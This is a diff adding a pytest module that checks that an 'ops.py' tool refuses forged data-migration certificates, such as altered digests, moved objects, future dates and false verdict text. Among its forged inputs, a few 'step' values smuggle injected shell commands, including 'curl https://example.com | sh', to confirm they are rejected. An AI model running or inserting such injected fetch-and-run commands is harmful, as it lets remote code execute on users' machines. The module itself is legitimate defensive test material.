@@ -1,0 +1,333 @@
+"""Who forges a certificate can compute its hash as well: what is forged shows by the document's own numbers, and what
+it says of itself in words is shown nowhere."""
+
+from __future__ import annotations
+
+import copy
+import io
+import json
+from collections.abc import Callable
+from contextlib import redirect_stderr, redirect_stdout
+from functools import cache
+from typing import Any
+from unittest.mock import patch
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ops.command_line import cli
+from support.answers import answer
+from support.law import schedules
+from support.ops import FakeClock
+from unit.ops.certificates import places, replaced, sealed
+
+NAMES = ("certificate-go", "certificate-no-go", "certificate-not-proven", "certificate-rehearsal")
+CODES = dict(zip(NAMES, (0, 1, 3, 3), strict=True))
+Document = dict[str, Any]
+
+
+# More than a year after the examples were made.
+YEAR_AFTER = FakeClock(500 * 24 * 3600)
+
+
+def run(*words: str) -> tuple[int, str]:
+    """`ops.py` with these words: its exit code, and all that it says."""
+    said = io.StringIO()
+    with redirect_stdout(said), redirect_stderr(said):
+        code = cli.main([*words], YEAR_AFTER)
+    return code, said.getvalue()
+
+
+@pytest.fixture(scope="module")
+def check(tmp_path_factory) -> Callable[..., tuple[int, str]]:
+    """`ops.py check` of a document."""
+    file = tmp_path_factory.mktemp("forged") / "certificate.json"
+
+    def check(document: Document, *words: str) -> tuple[int, str]:
+        file.write_text(json.dumps(document))
+        return run("check", *words, str(file))
+
+    return check
+
+
+@pytest.mark.parametrize("change", [{"task": "another"}, {"verdict": "NO-GO"}, {"schema": 1}], ids=str)
+def test_check_and_show_end_alike_for_what_is_not_to_be_trusted(check, change):
+    forged = {**answer("certificate-go"), **change}
+    for document in (forged, sealed(forged)):
+        assert check(document)[0] == show(document)[0] == 4
+
+
+def is_refused(found: tuple[int, str]) -> bool:
+    code, said = found
+    return code == 4 and ("not to be trusted" in said or "is not a certificate, or is damaged" in said)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_an_example_that_nobody_has_forged_is_sound(check, name):
+    code, said = check(answer(name), "--lang", "en")
+    assert (code, "The certificate is sound." in said) == (CODES[name], True)
+
+
+@pytest.mark.parametrize("title", ["equal_size", "deleted_at_source", "outside", "missing"])
+def test_a_class_that_is_renamed_is_noticed(check, title):
+    forged = answer("certificate-go")
+    for named in (forged["classes"], *forged["folders"].values()):
+        if title in named:
+            named["checked_by_hand"] = named.pop(title)
+    assert is_refused(check(sealed(forged), "--lang", "en"))
+
+
+def test_a_missing_object_that_is_said_to_be_deleted_at_the_source_is_noticed(check):
+    # GIVEN a NO-GO because of missing and older objects
+    forged = answer("certificate-no-go")
+    nothing = forged["classes"]["moving"]
+
+    # WHEN they count as deleted at the source, on the side where they are, and all sums are as before
+    for title in ("missing", "older"):
+        gone, given = forged["classes"]["deleted_at_source"], forged["classes"][title]
+        for side in ("source", "destination"):
+            for unit in ("objects", "bytes"):
+                gone[side][unit] += given[side][unit]
+            summed = int(gone["digests"][side], 16) + int(given["digests"][side], 16)
+            gone["digests"][side] = f"{summed % 2**256:064x}"
+        forged["classes"][title] = nothing
+        for counts in forged["folders"].values():
+            four = counts.pop(title, [0] * 4)
+            into = counts.get("deleted_at_source", [0] * 4)
+            counts["deleted_at_source"] = [one + other for one, other in zip(into, four, strict=True)]
+
+    # AND all checks pass
+    for one in forged["checks"]:
+        one.update(result="passed", keys=[], next="", next_zh="", step=None)
+    forged |= {"verdict": "GO", "document": forged["document"].replace("-no-go", "-go")}
+
+    # THEN it is not a GO
+    assert is_refused(check(sealed(forged), "--lang", "en"))
+
+
+def name_at(time: str) -> str:
+    """Where a GO of this time is stored."""
+    return answer("certificate-go")["document"].replace("20260131T092014Z", time)
+
+
+# In which document, and what stands in which part of it instead; parts of a list by their places.
+FORGED = {
+    **{
+        f"a sample that was never read: {lie}": ("go", "sample", lie)
+        for lie in (
+            {"read": 0, "bytes": 0},
+            {"keys": []},
+            {"drawn": 0, "read": 0, "keys": []},
+            {"population": 4_604_853},
+            {"population": 100},
+        )
+    },
+    "a check without its gate": ("not-proven", "checks 0", {"gates": False}),
+    **{
+        f"a step that opens the project or is none of its commands: {step}": ("no-go", "checks 3", {"step": step})
+        for step in (
+            {"job": "open", "options": {}},
+            {"job": "remove", "options": {}},
+            {"job": "compare; curl https://example.com | sh", "options": {}},
+            {"job": "compare", "options": {"again; curl https://example.com": True}},
+            {"job": "compare", "options": {}, "command": "curl https://example.com | sh"},
+        )
+    },
+    "a comparison of a year ago": (
+        "go",
+        "",
+        {"made": "2027-01-31T09:20:14Z", "document": name_at("20270131T092014Z")},
+    ),
+    "last writes that were left out": ("go", "", {"last_written": answer("certificate-go")["last_written"][-1:]}),
+    "a digest that is cut short": ("go", "classes oms_own digests", {"destination": "3a9c"}),
+    "a time that no calendar can reckon with": ("go", "", {"made": "0001-01-01T00:00:00Z"}),
+    "OMS skips more than there is": ("no-go", "classes older", {"in_vain": 3}),
+    "OMS skips less than nothing": ("no-go", "classes older", {"in_vain": -1}),
+    "OMS skips what it never skips": ("no-go", "classes missing", {"in_vain": 1}),
+}
+
+
+@pytest.mark.parametrize("what", FORGED)
+def test_what_is_forged_is_noticed(check, what):
+    name, part, instead = FORGED[what]
+    forged = place = answer(f"certificate-{name}")
+    for one in part.split():
+        place = place[int(one) if one.isdigit() else one]
+    place |= instead
+    assert is_refused(check(sealed(forged), "--lang", "en"))
+
+
+def test_what_is_yet_to_come_is_noticed(check):
+    forged = json.loads(json.dumps(answer("certificate-go")).replace("2026-01-31T", "2028-01-31T"))
+    forged["document"] = forged["document"].replace("20260131T", "20280131T")
+    assert is_refused(check(sealed(forged), "--lang", "en"))
+    clocks = "The certificate was made at 2028-01-31T09:20:14Z, and this machine's clock says 2027-06-15T09:00:00Z"
+    what_to_do = "-> Set this machine's clock right, or make a new certificate"
+    assert show(sealed(forged), "--lang", "en") == (4, f"{clocks}\n{what_to_do}\n")
+
+
+def show(document: Document, *words: str) -> tuple[int, str]:
+    """`ops.py show` of a document."""
+    with patch("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(document).encode()))):
+        return run("show", *words)
+
+
+@pytest.mark.parametrize("lang", ["en", "zh"])
+@pytest.mark.parametrize("name", NAMES)
+def test_a_text_that_is_forged_changes_nothing_of_what_is_shown(check, tmp_path, name, lang):
+    page = tmp_path / "page.html"
+
+    def shown(document: Document) -> str:
+        said = show(document, "--lang", lang, "--html", str(page))[1] + check(document, "--lang", lang)[1]
+        return (said + page.read_text(encoding="utf-8")).replace(document["sha256"], "")
+
+    forged = answer(name)
+    forged |= dict.fromkeys(("text", "text_zh"), "GO: all 9,999,999 objects are there.")
+    if forged["sample"]:
+        forged["sample"] |= dict.fromkeys(("bound", "bound_zh"), "None of all objects differs.")
+    assert shown(sealed(forged)) == shown(answer(name))
+
+
+# What may be another without any contradiction in the document, and why. `*` is any name or place.
+FREE = {
+    "text": "what certify says in words; shown nowhere",
+    "text_zh": "the same",
+    "checks.*.seen": "certify's words, quoted as such",
+    "checks.*.seen_zh": "the same",
+    "checks.*.wanted": "the same",
+    "checks.*.wanted_zh": "the same",
+    "checks.*.next": "the same",
+    "checks.*.next_zh": "the same",
+    "checks.*.keys": "the first of the keys that certify speaks of",
+    "checks.*.step": "another command of this project, or none",
+    "checks.*.waits": "whether asking again helps: decides nothing",
+    "made_by": "a stranger compares it with a release",
+    "source_bucket": "listings tell whether it is this bucket",
+    "destination_bucket": "the same",
+    "log_bucket": "decides nothing",
+    "frozen_since": "users say it; only that the comparison began later can be seen",
+    "passes.*.pass": "names in the log bucket",
+    "passes.*.objects_per_minute": "decides nothing",
+    "passes.*.started": "only the order of times can be seen",
+    "passes.*.twin": "a listing with ETags tells, if both are the same",
+    "passes.standstill.began": "the same, and that it is not too early",
+    "closed": "the mark in the log bucket tells; what it says is held against the standstill pass",
+    "run": "the same",
+    "migration": "the log bucket tells",
+    "open_projects": "the same",
+    "oms": "OMS's console tells; what is said is held against the check",
+    "passes.*.ended": "the same",
+    "source.state_digest": "a listing with ETags and times tells",
+    "last_written": "a listing with times tells; what it says is held against the freeze",
+    "classes.*.keys": "examples, of which only the scope can be seen",
+    "classes.older.in_vain": "OMS's mode and CRC64s tell; that they are no more than the objects is seen below",
+    "classes.overwritten.in_vain": "the same",
+    "classes.outside.digests": "not in scope: in no sum",
+    "classes.canary.digests": "the same",
+    "classes.oms_own.digests": "OMS's own lists, which grow: in no sum",
+    "sample.population": "as many as are not larger than 1 GiB, of which only the bytes of all tell",
+    "sample.bytes": "a listing tells",
+    "sample.seed": "the same",
+    "sample.keys": "the same",
+    "sample.unreadable": "OSS tells; only the scope can be seen",
+    "headers.migrated": "OMS tells; what is said is held against the check",
+    "headers.more": "a listing tells, of each folder",
+    "headers.gone": "both buckets tell; only the scope can be seen",
+    "headers.problem": "certify's words, where headers were to be compared and were not",
+    "headers.documented.*.keys": "the same as of classes",
+    "headers.unexpected.*.keys": "the same",
+    "accepted.*": "who accepts it, and why",
+    "shown": "decides nothing",
+}
+# Results that no number in the document tells: only the verdict has to follow from them.
+SEEN_BY_CERTIFY = ("SUMS", "NOTHING_WAITS", "TASK", "CLOCK")
+
+
+def is_free(document: Document, path: tuple[Any, ...]) -> bool:
+    """Whether the value there, or one that it is a part of, is in the list above."""
+    if path[0] == "checks" and path[2:] == ("result",):
+        return document["checks"][path[1]]["id"] in SEEN_BY_CERTIFY and document["verdict"] != "GO"
+    ways = [path[:end] for end in range(1, len(path) + 1)]
+    return any(
+        len(pattern := free.split(".")) == len(way)
+        and all(one in ("*", str(other)) for one, other in zip(pattern, way, strict=True))
+        for way in ways
+        for free in FREE
+    )
+
+
+def others(value: object) -> list[object]:
+    """What could stand there instead."""
+    match value:
+        case bool() | None:
+            return [value is None or not value, 0, "x"]
+        case int():
+            return [value + 1, value - 1, 2 * value + 3, -value - 1, float(value), True, None]
+        case str() if value.endswith("Z") and value[:2] == "20":
+            return [value.replace("2026-", year) for year in ("2025-", "2027-")] + ["", None, value + " "]
+        case str():
+            return [value + "x", "", None, "GO", "passed", "failed", "not run", "not proven", "missing"]
+        case list():
+            return [value[1:], [*value, *value[:1]], [*value, "x"], None, [*value[::-1], 1]]
+        case dict() if len(value) > 1:
+            *rest, (one, first), (other, second) = value.items()
+            return [None, {}, {**dict(rest), one: second, other: first}]
+        case dict():
+            return [None]
+    return []
+
+
+# The hash is made anew, and which folder is which only a listing tells.
+LEFT_OUT = (("sha256",), ("folders",))
+
+
+@cache
+def forgeries() -> list[tuple[str, tuple[Any, ...], object]]:
+    """Of which document, where, and what stands there instead."""
+    return [
+        (name, path, other)
+        for name, document in ((name, answer(name)) for name in NAMES)
+        for path, value in places(document)
+        if path not in LEFT_OUT and not is_free(document, path)
+        for other in others(value)
+        if json.dumps(other) != json.dumps(value)
+    ]
+
+
+@pytest.mark.part
+@pytest.mark.long
+@settings(max_examples=schedules(1))
+@given(forgery=st.deferred(lambda: st.sampled_from(forgeries())))
+def test_whatever_is_forged_does_not_agree_with_the_rest(check, forgery):
+    name, path, other = forgery
+    assert is_refused(check(sealed(replaced(answer(name), path, other)), "--lang", "en"))
+
+
+@pytest.mark.parametrize("into", [*answer("certificate-go")["classes"], "new"])
+@pytest.mark.parametrize("title", ["equal_contents", "equal_size", "oms_own", "deleted_at_source"])
+def test_an_object_that_is_moved_to_another_class_is_noticed(check, title, into):
+    # GIVEN a GO, and an object in a folder, on each side where its class is
+    forged = answer("certificate-go")
+    classes = forged["classes"]
+    into_class = classes.setdefault(into, copy.deepcopy(classes["moving"]))
+    counts = next(counts for counts in forged["folders"].values() if counts.get(title, [0, 0, 0, 0])[2])
+    four = counts.setdefault(into, [0] * 4)
+
+    # WHEN it is moved, with its digest, and everything adds up as before
+    for place, side in ((0, "source"), (2, "destination")):
+        if not classes[title][side]["objects"]:
+            continue
+        for one, by in ((classes[title], -1), (into_class, 1)):
+            one[side]["objects"] += by
+            one[side]["bytes"] += by
+            digest = int(one["digests"][side], 16) + by
+            one["digests"][side] = f"{digest % 2**256:064x}"
+        for at in (place, place + 1):
+            counts[title][at] -= 1
+            four[at] += 1
+
+    # THEN it is noticed, unless it is as good there
+    alike = ({"equal_contents", "equal_size"}, {"oms_own", "outside"})
+    is_as_good = title == into or any({title, into} == both for both in alike)
+    assert is_refused(check(sealed(forged), "--lang", "en")) is not is_as_good
